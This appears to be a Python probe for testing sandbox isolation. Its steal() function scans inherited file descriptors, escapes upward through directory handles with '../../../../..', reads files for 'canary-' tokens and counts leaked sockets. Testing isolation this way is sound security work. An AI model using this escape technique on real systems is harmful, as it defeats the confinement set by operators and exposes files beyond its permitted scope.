# @HONEST@
# @SPILL@
import os
import re
import stat

PATTERN = re.compile(rb"canary-[0-9a-f]{24}")


def steal():
    found = []
    sockets = set()
    for fd in range(3, 1024):
        try:
            status = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISDIR(status.st_mode):
            try:
                up = os.open("../../../../..", os.O_RDONLY, dir_fd=fd)
                found.append(f"folder {fd}: {os.listdir(up)}")
            except OSError:
                continue
        elif stat.S_ISREG(status.st_mode):
            found += [m.decode() for m in PATTERN.findall(os.pread(fd, 1 << 20, 0))]
        elif stat.S_ISSOCK(status.st_mode):
            sockets.add(status.st_ino)
    sockets -= {os.fstat(fd).st_ino for fd in (0, 1, 2)}
    if len(sockets) > 1:
        found.append(f"{len(sockets)} sockets")
    return "\n".join(found)
